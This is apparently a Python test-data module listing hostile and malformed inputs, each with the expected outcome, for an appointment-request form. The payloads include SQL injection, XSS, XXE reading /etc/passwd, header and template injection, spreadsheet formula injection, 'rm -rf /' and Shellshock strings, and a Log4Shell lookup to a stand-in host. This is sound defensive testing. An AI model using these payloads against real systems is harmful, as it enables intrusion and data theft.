"""What people and programs send that a form must stand: each with what becomes of it."""

from typing import NamedTuple

from forms_app.forms import CHOOSE_LOCATION, SENT_TWICE, UNREADABLE


class Refused(NamedTuple):
    """Sent back with the answers kept. `words` stand in the message beside the field."""

    words: str


class Kept(NamedTuple):
    """Stored as this, and shown to the office as this."""

    value: object


class Aside(NamedTuple):
    """Stored, shown under spam, and nobody is written to."""


class Case(NamedTuple):
    field: str
    typed: str | list[str]
    outcome: Refused | Kept | Aside


LABELS = {
    "first_name": "First name",
    "last_name": "Last name",
    "phone": "Phone number",
    "email": "Email address",
    "language": "Preferred language",
    "payer": "Insurance, or how you plan to pay",
    "message": "Anything we should know before we call",
    "best_time": "Best time to call",
    "location": "Location",
    "extra_about_singleline": "About singleline",
    "extra_about_multiline": "About multiline",
}


def hidden(field: str, typed: str) -> Case:
    return Case(field, typed, Refused(str(UNREADABLE).format(LABELS[field])))


def in_script(zero: int, number: str) -> str:
    """The number in the digits of another script, given its zero."""
    return "".join(chr(zero + int(digit)) for digit in number)


def twice(field: str, typed: list[str]) -> Case:
    return Case(field, typed, Refused(str(SENT_TWICE).format(LABELS[field])))


def kept(field: str, typed: str, value: object = None) -> Case:
    return Case(field, typed, Kept(typed if value is None else value))


PHONE = Refused("Enter a phone number with its area code")
EMAIL = Refused("Enter an email address such as name@example.com")
NAME = Refused("Enter your first name")
LOCATION = Refused(str(CHOOSE_LOCATION))

SQL = [
    kept("last_name", "Robert'); DROP TABLE forms_app_appointmentrequest;--"),
    kept("message", "' OR '1'='1' UNION SELECT password FROM auth_user --"),
    kept("payer", '"; DELETE FROM x; --'),
    Case("location", "1 OR 1=1", LOCATION),
    Case("location", "1; SELECT pg_sleep(9)", LOCATION),
    Case("service", "0 UNION SELECT 1", Refused("Choose one of the services listed")),
    kept("language", "%' AND SLEEP(5) AND '%'='"),
]
MARKUP = [
    kept("first_name", "<script>alert(1)</script>"),
    kept("last_name", '"><img src=x onerror=alert(1)>'),
    kept("message", "</textarea><script>alert(1)</script>"),
    kept("payer", "javascript:alert(1)"),
    kept("language", "<svg/onload=alert(1)>"),
    kept("message", "<!--#exec cmd='ls'-->"),
    kept("message", "]]><!ENTITY xxe SYSTEM 'file:///etc/passwd'>"),
    kept("extra_about_singleline", "'-alert(1)-'"),
    kept("extra_about_multiline", "<iframe src=//x.example></iframe>"),
    kept("message", "&lt;b&gt; &amp;amp; &#60;"),
    kept("first_name", "{{ 7*7 }}{% debug %}"),
    kept("message", "${7*7} #{7*7} <%= 7*7 %> {{settings.SECRET_KEY}}"),
    kept("last_name", "%s%n%(x)s{0}{__class__}"),
]
HEADERS = [
    kept("first_name", "Ana\r\nBcc: all@mail.example", "Ana Bcc: all@mail.example"),
    kept("last_name", "Reyes\nSubject: free", "Reyes Subject: free"),
    kept("payer", "Plan\r\n\r\n<html>", "Plan  <html>"),
    kept("language", "English\u2028Cc: x@mail.example", "English Cc: x@mail.example"),
    kept("extra_about_singleline", "a\rb", "a b"),
    kept("message", "To: x\r\nBcc: y", "To: x\nBcc: y"),
    Case("email", "ana@mail.example\r\nBcc: all@mail.example", EMAIL),
    Case("email", "ana@mail.example%0ABcc:all@mail.example", EMAIL),
    Case("phone", "503 555 0142\r\nX-Header: 1", PHONE),
    Case("email", "ana@mail.example, bea@mail.example", EMAIL),
    Case("email", "Ana <ana@mail.example>", EMAIL),
]
CONTROLS = [
    hidden("first_name", "Ana\x00"),
    Case("last_name", "\x00", Refused("Enter your last name")),
    hidden("payer", "a\x08b"),
    hidden("message", "\x1b]0;title\x07"),
    hidden("language", "c1\x9b31m"),
    hidden("message", "\x7f\x7f"),
    hidden("extra_about_singleline", "a\x0bb"),
    hidden("extra_about_multiline", "\x01\x02\x03"),
    hidden("first_name", "A\ufffdna"),
    hidden("message", "\ufdd0 is no character"),
    hidden("phone", "+1 503 555 0142\x00"),
    hidden("email", "ana@mail.example\x00"),
]
DIRECTION = [
    hidden("first_name", "\u202eanA"),
    hidden("last_name", "Reyes\u2066\u2069"),
    hidden("message", "pay \u202d$100\u202c now"),
    hidden("payer", "\u202bplan"),
    hidden("extra_about_multiline", "\u2067x"),
    kept("phone", "\u202a+1 503-555-0142\u202c", "+1 503-555-0142"),  # as contact apps copy it
    kept("email", "\u202aana@mail.example\u202c", "ana@mail.example"),
    kept("first_name", "שרה"),
    kept("last_name", "عبد الله"),
]
INVISIBLE = [
    Case("first_name", "\u200b\u200c\u200d", NAME),
    Case("first_name", "\ufeff", NAME),
    Case("first_name", "\u2060\u2063", NAME),
    Case("first_name", "\u3164\u115f\u1160\uffa0", NAME),
    Case("first_name", "\u2800\u2800", NAME),
    Case("first_name", "\u00ad", NAME),
    Case("first_name", "\U000e0041\U000e0042", NAME),
    Case("first_name", "\u00a0\u2003\u3000\t", NAME),
    Case("first_name", "\u0301\u0308", NAME),
    Case("first_name", "\ufe0f\ufe0e", NAME),
    Case("last_name", "\u180e", Refused("Enter your last name")),
    kept("message", "\u200b\u200b", ""),
    kept("payer", "\u3164", ""),
    kept("first_name", "A\u200bn\u00ada\ufeff", "Ana"),
]
LETTERS = [
    kept("first_name", "Jose\u0301", "José"),
    kept("first_name", "\u212bsa", "Åsa"),
    kept("last_name", "O'Brien-Núñez y García"),
    kept("last_name", "d’Angelo"),
    kept("first_name", "李"),
    kept("first_name", "Nguyễn Thị Ánh"),
    kept("first_name", "X Æ A-12"),
    kept("first_name", "🎉"),
    kept("message", "👩\u200d⚕️ 👍🏽 🏳️\u200d🌈"),
    kept("last_name", "Ǆžejms Ъъ ꙮ"),
    hidden("first_name", "Z" + "\u0335\u0300\u0316" * 12),
    kept("first_name", "A" * 80),
    kept("last_name", "Null"),
    kept("first_name", "true"),
    kept("last_name", "undefined"),
    kept("message", in_script(0x966, "123")),
    kept("message", "a b"),
    kept("message", "one\r\ntwo\rthree", "one\ntwo\nthree"),
]
LENGTHS = [
    Case("first_name", "A" * 81, Refused("can have 80 characters at most. You wrote 81")),
    Case("first_name", "é" * 90, Refused("You wrote 90")),
    Case("last_name", "🎉" * 81, Refused("You wrote 81")),
    Case("message", "x" * 501, Refused("can have 500 characters at most. You wrote 501")),
    Case("message", "word " * 4000, Refused("can have 500 characters at most")),
    Case("payer", "P" * 101, Refused("can have 100 characters at most")),
    Case("language", "L" * 61, Refused("can have 60 characters at most")),
    Case("email", "a" * 250 + "@mail.example", Refused("can have 254 characters at most")),
    Case("extra_about_singleline", "x" * 256, Refused("can have 255 characters at most")),
    Case("extra_about_multiline", "x" * 2001, Refused("can have 2000 characters at most")),
    Case("phone", "5" * 5000, PHONE),
    Case("location", "9" * 5000, LOCATION),
    kept("message", "é\r\n" * 166, ("é\n" * 166).strip()),
]
PHONES = [
    *(
        Case("phone", typed, PHONE)
        for typed in [
            *[
                "911",
                "988",
                "555-0142",
                "503-555-014",
                "0",
                "000-000-0000",
                "1234567890",
                "+1",
            ],
            *["+999 12345678", "call me", "503-555-0142 or 503-555-0143", "1/2", "-5035550142e1", "5.03e9"],
            *["tel:", "(503) 055-0142", "NaN", "∞", "😀", "anonymous", "+1 (800) FLOWERS2GO"],
        ]
    ),
    Case("phone", "", Refused("Enter a phone number we can call")),
    kept("phone", "++1 503 555 0142", "+1 503-555-0142"),
    kept("phone", "503.555.0142", "+1 503-555-0142"),
    kept("phone", "  1 (503) 555 0142  ", "+1 503-555-0142"),
    kept("phone", "503–555—0142", "+1 503-555-0142"),
    kept("phone", in_script(0x660, "5035550142"), "+1 503-555-0142"),
    kept("phone", in_script(0xFF10, "5035550142"), "+1 503-555-0142"),
    kept("phone", "503 555 0142 ext. 12", "+1 503-555-0142 ext. 12"),
    kept("phone", "+44 20 7946 0958"),
    kept("phone", "tel:+1-503-555-0142", "+1 503-555-0142"),
    twice("phone", ["5035550142", "5035550143"]),
]
EMAILS = [
    *(
        Case("email", typed, EMAIL)
        for typed in [
            *[
                "nobody",
                "@mail.example",
                "a@b",
                "a@",
                "a b@mail.example",
                "a@mail..example",
                ".a@mail.example",
            ],
            *[
                "a@-mail.example",
                "a@mail.example.",
                "(comment)a@mail.example",
                "<script>@mail.example",
                "a@[x]",
            ],
            *[
                "a@mail.example?bcc=b@mail.example",
                "mailto:a@mail.example",
                "a@@mail.example",
                "a@mail,example",
            ],
        ]
    ),
    kept("email", " Ana+visit@Mail.example ", "Ana+visit@Mail.example"),
    kept("email", "o'brien@mail.example"),
    kept("email", "", ""),
    kept("email", "a@münchen.example"),
    kept("email", "a@xn--mnchen-3ya.example"),
]
CHOICES = [
    Case("location", "", LOCATION),
    Case("location", "0", LOCATION),
    Case("location", "-1", LOCATION),
    Case("location", "{unpublished}", LOCATION),
    Case("location", "{home}", LOCATION),
    Case("location", "../../etc/passwd", LOCATION),
    twice("location", ["{location}", "{location}"]),
    Case("service", "{unpublished}", Refused("Choose one of the services listed")),
    Case("best_time", "midnight", Refused("Choose one of the times listed")),
    Case("best_time", "MORNING", Refused("Choose one of the times listed")),
    twice("best_time", ["morning", "midday"]),
    Case("patient_type", "admin", Refused("Choose one of the answers listed")),
    Case("days", ["monday", "sunday"], Refused("Choose from the days listed")),
    Case("days", ["monday"] * 300 + [""], Refused("Choose from the days listed")),
    Case("days", ["monday"] * 300, Kept(["monday"])),
    Case("times", ["night"], Refused("Choose from the times listed")),
    Case("voicemail_ok", "false", Kept(False)),
    Case("voicemail_ok", "maybe", Kept(True)),
    twice("first_name", ["Ana", "Bea"]),
    twice("message", ["", "x"]),
]
QUESTIONS = [
    Case("extra_about_number", "many", Refused("“About number”: enter a number")),
    Case("extra_about_number", "NaN", Refused("“About number”: enter a number")),
    Case("extra_about_number", "Infinity", Refused("“About number”: enter a number")),
    Case("extra_about_number", "1e99999", Refused("18 digits at most")),
    Case("extra_about_number", "0x1F", Refused("“About number”: enter a number")),
    Case("extra_about_date", "soon", Refused("“About date”: enter a date")),
    Case("extra_about_date", "2026-02-30", Refused("“About date”: enter a date")),
    Case("extra_about_date", "0000-00-00", Refused("“About date”: enter a date")),
    Case("extra_about_date", "99999-01-01", Refused("“About date”: enter a date")),
    Case("extra_about_datetime", "2026-13-01T25:61", Refused("“About datetime”: enter a date and time")),
    Case("extra_about_url", "javascript:alert(1)", Refused("“About url”: enter a web address")),
    Case("extra_about_url", "http://[::1", Refused("“About url”: enter a web address")),
    Case("extra_about_email", "x@", Refused("“About email”: enter an email address")),
    Case("extra_about_dropdown", "Never", Refused("Choose from the answers listed")),
    Case("extra_about_radio", "<b>Yes</b>", Refused("Choose from the answers listed")),
    Case("extra_about_checkboxes", ["No", "Never"], Refused("Choose from the answers listed")),
    Case("extra_is_50d_true", "x" * 256, Refused("“Is 50%d true?” can have 255 characters at most")),
    kept("extra_about_date", "1/2/2027", "January 2, 2027"),
    kept("extra_about_url", "https://x.example/?q=<b>"),
]
OTHER = [
    kept("message", "=cmd|' /C calc'!A0"),
    kept("first_name", "+1+1"),
    kept("last_name", "@SUM(1+1)"),
    kept("payer", "-2+3"),
    kept("message", "../../../../etc/passwd\n..\\..\\windows\\win.ini"),
    kept("message", "`rm -rf /` $(id) | cat; #"),
    kept("message", "() { :;}; echo x"),
    kept("message", "${jndi:ldap://x.example/a}"),
    kept("message", "*)(uid=*))(|(uid=*"),
    kept("message", '{"$ne": null}'),
    kept("message", "https://pills.example without any haste"),
    Case("followup_code", "http://spam.example", Aside()),
    Case("followup_code", "0", Aside()),
    kept("source", "1; DROP TABLE wagtailcore_page", None),
    kept("source", "-1", None),
    kept("pace", "<script>", None),
    kept("unknown", "field", None),
    kept("csrfmiddlewaretoken", "x", None),
    kept("reference", "APT-22222222", None),
    kept("is_spam", "0", None),
    kept("status", "closed", None),
]
CASES: list[Case] = [
    *[*SQL, *MARKUP, *HEADERS, *CONTROLS, *DIRECTION, *INVISIBLE, *LETTERS, *LENGTHS],
    *[*PHONES, *EMAILS, *CHOICES, *QUESTIONS, *OTHER],
]


class Post(NamedTuple):
    """Something sent to the form that is no filled-in form, and the status it is answered with."""

    status: int
    body: bytes = b""
    content_type: str = "application/x-www-form-urlencoded"
    method: str = "POST"
    below: str = ""
    headers: dict[str, str] = {}


FORM = "application/x-www-form-urlencoded"
FILE = (
    b'--x\r\nContent-Disposition: form-data; name="first_name"; filename="a.exe"\r\n'
    b"Content-Type: application/octet-stream\r\n\r\nMZ\x90\r\n--x--\r\n"
)
POSTS: dict[str, Post] = {
    "nothing": Post(422),
    "JSON": Post(422, b'{"first_name": "Ana"}', "application/json"),
    "XML": Post(
        422, b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///">]><a>&x;</a>', "text/xml"
    ),
    "text": Post(422, b"hello", "text/plain"),
    "no content type": Post(422, b"first_name=Ana", ""),
    "a strange content type": Post(422, b"first_name=Ana", "a/b; c=\x80"),
    "bytes that are no UTF-8": Post(422, b"first_name=%FF%FE&last_name=\xff"),
    "surrogates": Post(422, b"first_name=%ED%A0%80&last_name=%ED%B0%80"),
    "null bytes": Post(422, b"first_name=%00&last_name=%00&phone=%00&location=%00"),
    "broken escapes": Post(422, b"first_name=%&last_name=%zz&%=%"),
    "overlong UTF-8": Post(422, b"first_name=%C0%AE%C0%AE"),
    "another charset": Post(400, b"first_name=Ana", f"{FORM}; charset=utf-16"),
    "an unknown charset": Post(422, b"first_name=Ana", f"{FORM}; charset=nonsense"),
    "10,001 fields": Post(400, b"&".join(b"f%d=1" % n for n in range(10_001))),
    "one field of a megabyte": Post(400, b"message=" + b"x" * 1_000_000),
    "six megabytes": Post(400, b"x" * 6_000_000),
    "900 locations": Post(422, b"&".join([b"location=1"] * 900)),
    "a broken multipart": Post(422, b"--x\r\nnonsense", "multipart/form-data; boundary=x"),
    "a multipart without boundary": Post(400, b"nonsense", "multipart/form-data"),
    "a file as an answer": Post(422, FILE, "multipart/form-data; boundary=x"),
    "a boundary of nothing": Post(422, b"", 'multipart/form-data; boundary=""'),
    "brackets": Post(422, b"first_name[]=Ana&last_name[0]=x&__proto__[x]=1"),
    "PUT": Post(405, method="PUT"),
    "PATCH": Post(405, method="PATCH"),
    "DELETE": Post(405, method="DELETE"),
    "TRACE": Post(405, method="TRACE"),
    "an unknown method": Post(405, method="FROBNICATE"),
    "HEAD": Post(200, method="HEAD"),
    "junk in the query": Post(
        200, method="GET", below="?location=%00&service=%FF&utm=%3Cscript%3E&&&=&a[]=1"
    ),
    "a long query": Post(200, method="GET", below="?location=" + "9" * 5000),
    "a language there is not": Post(404, method="GET", below="fr/"),
    "Spanish twice": Post(404, method="GET", below="es/es/"),
    "no such place": Post(404, method="GET", below="received/APT-00000000/"),
    "up and away": Post(404, method="GET", below="received/..%2f..%2fadmin/"),
    "posted to the confirmation": Post(404, below="received/x/"),
    "posted to another place": Post(404, below="elsewhere/"),
    "from another site": Post(403, headers={"Origin": "https://evil.example"}),
    "from an odd origin": Post(403, headers={"Origin": "http://[::1"}),
    "from a cross-site form": Post(403, headers={"Sec-Fetch-Site": "cross-site"}),
    "a forged address": Post(422, headers={"X-Forwarded-For": "' OR 1=1, ::::, \x01"}),
    "an odd language": Post(422, headers={"Accept-Language": "xx-" * 500}),
    "an odd host": Post(400, headers={"Host": "evil example/<script>"}),
    "a host of another site": Post(422, headers={"Host": "evil.example"}),
    "junk to the status page": Post(422, b"reference=%00&phone=%FF&note=", below="status/"),
    "a note of nothing": Post(422, b"note=%00%FF&step=withdrawn", below="status/"),
    "JSON to the status page": Post(422, b"[]", "application/json", below="status/"),
    "a megabyte to the status page": Post(400, b"note=" + b"x" * 1_000_000, below="status/"),
}
